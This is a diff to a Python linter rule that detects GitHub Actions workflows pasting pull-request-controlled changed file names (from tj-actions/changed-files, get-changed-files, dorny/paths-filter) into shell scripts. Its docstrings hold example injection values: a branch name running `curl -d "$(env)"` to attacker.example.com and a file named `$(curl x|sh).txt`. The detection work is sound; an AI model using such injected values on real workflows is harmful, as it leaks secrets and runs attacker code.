@@ -7,15 +7,16 @@ from __future__ import annotations
 import re
 from bisect import bisect_right
 from collections.abc import Iterator
+from typing import NamedTuple
 
-from sandkit.lazy_regex import lazy
+from sandkit.lazy_regex import AnyPattern, lazy
 from sandkit.lint.facts.run_scripts import REDIRECT, HereDoc, program, script_lines, segment_at, segments, structure
 from sandkit.lint.facts.workflows import Job, jobs, secret_refs, triggers, workflow
 from sandkit.lint.kinds import ACTION, WORKFLOW
 from sandkit.lint.model import Hit
 from sandkit.lint.registry import rule
 from sandkit.lint.source import SourceFile
-from sandkit.lint.syntax.tree import PMap, PStr
+from sandkit.lint.syntax.tree import PMap, PSeq, PStr
 
 _EXPRESSION = lazy(r"\$\{\{(.{0,500}?)\}\}", re.S)
 #: Context values anyone who opens an issue, comments, names a branch or writes a commit sets.
@@ -90,19 +91,166 @@ _DOWNLOAD_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artif
 _RUN_ARTIFACT = lazy(r"gh\s+run\s+download|listWorkflowRunArtifacts|downloadArtifact|/artifacts/[^\s]*/zip")
 
 
-def _scripts(file: SourceFile) -> Iterator[tuple[PStr, bool]]:
-    """``run:`` strings and actions/github-script ``script:`` inputs, and whether each is a shell
-    script (a ``run:`` with no ``shell:``, or bash or sh)."""
+def _scripts(file: SourceFile) -> Iterator[tuple[PStr, bool, PMap]]:
+    """``run:`` strings and actions/github-script ``script:`` inputs, whether each is a shell
+    script (a ``run:`` with no ``shell:``, or bash or sh), and the step that holds it."""
     for node in file.mappings():
         run = node.get("run")
         if isinstance(run, PStr):
             shell = node.get("shell")
-            yield run, shell is None or (isinstance(shell, str) and shell.split()[:1] in (["bash"], ["sh"]))
+            yield run, shell is None or (isinstance(shell, str) and shell.split()[:1] in (["bash"], ["sh"])), node
         uses, with_ = node.get("uses"), node.get("with")
         if isinstance(uses, str) and uses.lower().startswith(_SCRIPT_ACTIONS) and isinstance(with_, PMap):
             script = with_.get("script")
             if isinstance(script, PStr):
-                yield script, False
+                yield script, False, node
+
+
+class _Lister(NamedTuple):
+    """A step that lists the names of changed files in its outputs."""
+
+    action: str  #: the action as written, without its ref
+    outputs: AnyPattern  #: its outputs that hold file names
+    severity: str  #: "" for the rule's own
+    why: str
+    shell_quoted: bool  #: the names are quoted for a shell (paths-filter's ``list-files: shell``)
+
+
+#: tj-actions/changed-files and its copies under another owner (step-security/changed-files) list
+#: names in every output ending in ``files`` (``all_changed_files``, ``added_files``,
+#: ``<key>_modified_files`` ...; not ``any_changed`` or ``*_count``); tj-actions/verify-changed-files
+#: in ``changed_files``. Both escape the characters a shell acts on by default (``safe_output``)
+#: since v41 and v17 respectively, after GHSA-mcph-m25j-8j63 (CVE-2023-51664).
+_CHANGED_FILES = lazy(r"(?i)^[\w.-]+/(changed-files|verify-changed-files)$")
+_SAFE_SINCE = {"changed-files": 41, "verify-changed-files": 17}
+_FILES_OUTPUT = lazy(r"(?i)^[\w-]*files$")
+#: jitterbit/get-changed-files and its fork Ana06's list names in ``all``, ``added``, ``modified``,
+#: ``removed``, ``renamed`` and ``added_modified``; lots0logs/gh-action-get-changed-files (a JSON
+#: array each) in ``all``, ``added``, ``deleted``, ``renamed`` and ``modified``.
+_GET_CHANGED_FILES = (
+    "jitterbit/get-changed-files",
+    "ana06/get-changed-files",
+    "lots0logs/gh-action-get-changed-files",
+)
+_GET_CHANGED_OUTPUT = lazy(r"(?i)^(?:all|added|removed|deleted|renamed|modified|added_modified)$")
+#: dorny/paths-filter lists a filter's names in ``<filter>_files`` when ``list-files`` is not none.
+_PATHS_FILTER_OUTPUT = lazy(r"(?i)^[\w-]+_files$")
+_MAJOR = lazy(r"^v(\d{1,4})\b")
+
+
+def _file_lister(step: PMap) -> _Lister | None:
+    """What a step that lists changed files' names lists, or None for any other step."""
+    uses = step.get("uses")
+    if not isinstance(uses, str) or uses.startswith(("./", "docker://")):
+        return None
+    name, _, ref = uses.partition("@")
+    name = name.strip()
+    with_ = step.get("with")
+    inputs = with_ if isinstance(with_, PMap) else PMap(step.pos)
+    lowered = name.lower()
+    changed = _CHANGED_FILES.match(lowered)
+    if changed:
+        since = _SAFE_SINCE[changed.group(1)]
+        major = _MAJOR.match(ref.strip())
+        safe = inputs.get("safe_output")
+        if safe is False or (isinstance(safe, str) and safe.strip().lower() == "false"):
+            return _Lister(name, _FILES_OUTPUT, "", "", False)
+        if major and int(major.group(1)) < since:
+            return _Lister(name, _FILES_OUTPUT, "", "", False)
+        why = (
+            f"the action escapes the characters a shell acts on in the names it lists (safe_output, on by "
+            f"default since v{since}): the script's safety rests on the action's escaping, not on quoting"
+        )
+        return _Lister(name, _FILES_OUTPUT, "medium", why, False)
+    if lowered in _GET_CHANGED_FILES:
+        return _Lister(name, _GET_CHANGED_OUTPUT, "", "", False)
+    if lowered == "dorny/paths-filter":
+        listing = inputs.get("list-files")
+        if listing is None or (isinstance(listing, str) and listing.strip().lower() in ("", "none")):
+            return None
+        quoted = isinstance(listing, str) and listing.strip().lower() in ("shell", "escape")
+        return _Lister(name, _PATHS_FILTER_OUTPUT, "", "", quoted)
+    return None
+
+
+#: ``steps.ID.outputs.NAME`` and ``needs.JOB.outputs.NAME``.
+_OUTPUT_REF = lazy(r"\b(steps|needs)\s*\.\s*([\w-]+)\s*\.\s*outputs\s*\.\s*([\w-]+)")
+#: Triggers on which a pull request's author chooses the names of the files it changes (a reusable
+#: workflow's callers and a workflow_run's triggering run may be such).
+_NAMES_FROM_PULL_REQUESTS = frozenset(
+    {
+        "pull_request",
+        "pull_request_target",
+        "pull_request_review",
+        "pull_request_review_comment",
+        "issue_comment",
+        "workflow_call",
+        "workflow_run",
+    }
+)
+_PUSHED_NAMES_WHY = (
+    "no trigger of this workflow is a pull request's: the names are of files already on a branch of "
+    "this repository, which only those with write access (or a merge they made) put there"
+)
+
+
+class _Listed(NamedTuple):
+    """A reference to outputs that hold changed files' names."""
+
+    text: str
+    lister: _Lister
+
+
+def _listed_outputs(file: SourceFile) -> dict[int, dict[tuple[str, str], _Lister]]:
+    """For each step (by ``id()``), the outputs its expressions may name that hold changed files'
+    names: ``("steps", ID)`` and ``("needs", JOB)`` keys to the step listing them."""
+    by_step: dict[int, dict[tuple[str, str], _Lister]] = {}
+    job_outputs: dict[str, dict[str, _Lister]] = {}
+    holders = [node for node in file.mappings() if isinstance(node.get("steps"), PSeq)]
+    doc = workflow(file)
+    local: list[tuple[list[PMap], dict[tuple[str, str], _Lister]]] = []
+    for holder in holders:
+        sequence = holder.get("steps")
+        steps = [s for s in sequence if isinstance(s, PMap)] if isinstance(sequence, PSeq) else []
+        listers: dict[tuple[str, str], _Lister] = {}
+        for step in steps:
+            sid, lister = step.get("id"), _file_lister(step)
+            if isinstance(sid, str) and lister is not None:
+                listers[("steps", sid.strip())] = lister
+        local.append((steps, listers))
+        outputs = holder.get("outputs")
+        if listers and isinstance(outputs, PMap) and doc is not None:
+            for job in jobs(doc):
+                if job.spec is holder:
+                    for key, value in outputs.items():
+                        found = _names_in(str(value), listers) if isinstance(value, str) else None
+                        if found is not None:
+                            job_outputs.setdefault(job.name, {})[str(key)] = found.lister
+    for steps, listers in local:
+        table = dict(listers)
+        for name, outs in job_outputs.items():
+            for output, lister in outs.items():
+                table[("needs", f"{name}.{output}")] = lister
+        if not table:
+            continue
+        for step in steps:
+            by_step[id(step)] = table
+    return by_step
+
+
+def _names_in(expression: str, table: dict[tuple[str, str], _Lister]) -> _Listed | None:
+    """The first reference in an expression to outputs holding changed files' names."""
+    for ref in _OUTPUT_REF.finditer(expression):
+        kind, owner, output = ref.group(1), ref.group(2), ref.group(3)
+        if kind == "steps":
+            lister = table.get(("steps", owner))
+            if lister is not None and lister.outputs.match(output):
+                return _Listed(" ".join(ref.group(0).split()), lister)
+        else:
+            lister = table.get(("needs", f"{owner}.{output}"))
+            if lister is not None:
+                return _Listed(" ".join(ref.group(0).split()), lister)
+    return None
 
 
 @rule(
@@ -132,6 +280,17 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
     a line equal to the delimiter, and the lines after it run (a title too: GitHub's API accepts
     a line break in one).
 
+    The names of the files a pull request changes are outsider text too:
+    `${{ steps.X.outputs.all_changed_files }}` where step `X` is tj-actions/changed-files (or a
+    copy of it under another owner, or tj-actions/verify-changed-files), jitterbit's or Ana06's
+    get-changed-files, or dorny/paths-filter's `<filter>_files` with `list-files` csv or json,
+    and a job's output (`needs.J.outputs.N`) that passes one on. Medium for tj-actions' own
+    actions from v41 (v17 for verify-changed-files), which escape shell characters in the names
+    unless `safe_output: false`; paths-filter's `list-files: shell` or `escape` quote the names
+    for a shell and are not findings in a shell `run:`. Info when no trigger of the workflow is
+    a pull request's (`push`, `schedule`: the names are already on a branch); outputs of other
+    steps are not read.
+
     Why:
     A comment or branch name such as `"; curl -d "$(env)" https://attacker.example.com #`
     becomes a command of the script, run with the job's token and secrets: on a comment or
@@ -141,9 +300,14 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
     Pass the value through the environment (`env: {BODY: ${{ github.event.comment.body }}}`)
     and use `"$BODY"` in the script, quoted.
     """
-    for script, shell in _scripts(file):
+    listed = _listed_outputs(file) if "outputs" in file.text else {}
+    flow = workflow(file)
+    on = triggers(flow) if flow is not None else set()
+    pushed_only = bool(on) and not on & _NAMES_FROM_PULL_REQUESTS
+    for script, shell, step in _scripts(file):
         if "${{" not in script:
             continue
+        table = listed.get(id(step), {})
         bodies = _text_bodies(script) if shell and "<<" in script else []
         starts = [start for start, _, _ in bodies]
         opened_by: dict[tuple[int, int], bool] = {}  # here-document -> a value of many lines met in it
@@ -151,6 +315,11 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
             named = list(_OUTSIDER_TEXT.finditer(match.group(1)))
             objects = [m for m in _TO_JSON.finditer(match.group(1)) if _object_of_outsider_text(m.group(1))]
             if not named and not objects:
+                names = _names_in(match.group(1), table) if table else None
+                if names is not None and not (names.lister.shell_quoted and shell):
+                    where = bisect_right(starts, match.start()) - 1
+                    in_doc = where >= 0 and match.start() < bodies[where][1]
+                    yield _changed_names_hit(file, script, match.start(), names, pushed_only, in_doc)
                 continue
             text = " ".join((named or objects)[0].group(0).split())
             where = bisect_right(starts, match.start()) - 1
@@ -179,6 +348,31 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
                 yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a quoted here-document{how}")
                 continue
             yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")
+
+
+def _changed_names_hit(
+    file: SourceFile, script: PStr, offset: int, names: _Listed, pushed_only: bool, in_doc: bool
+) -> Hit:
+    """CP006 on changed files' names pasted into a script: the names are the pull request's to
+    choose (git refuses only ``/`` in a name's part and NUL: ``$(curl x|sh).txt`` and a line break
+    are allowed), so a quoted here-document does not hold them either."""
+    where = (
+        "a quoted here-document (a name may hold a line break: a line equal to the delimiter ends the "
+        "document, and the lines after run as code)"
+        if in_doc
+        else "a script as code"
+    )
+    message = (
+        f"{names.text} is pasted into {where}: it holds the names of changed files, listed by "
+        f"{names.lister.action}, which a pull request's author chooses (a file named `$(cmd).txt` runs cmd)"
+    )
+    fix = (
+        f'Pass the names through the environment (`env: {{FILES: ${{{{ {names.text} }}}}}}`) and use "$FILES", quoted.'
+    )
+    pos = file.str_pos(script, offset)
+    if pushed_only:
+        return Hit(pos, message, fix, severity="info", why=_PUSHED_NAMES_WHY)
+    return Hit(pos, message, fix, severity=names.lister.severity, why=names.lister.why)
 
 
 def _text_bodies(script: str) -> list[tuple[int, int, HereDoc]]:
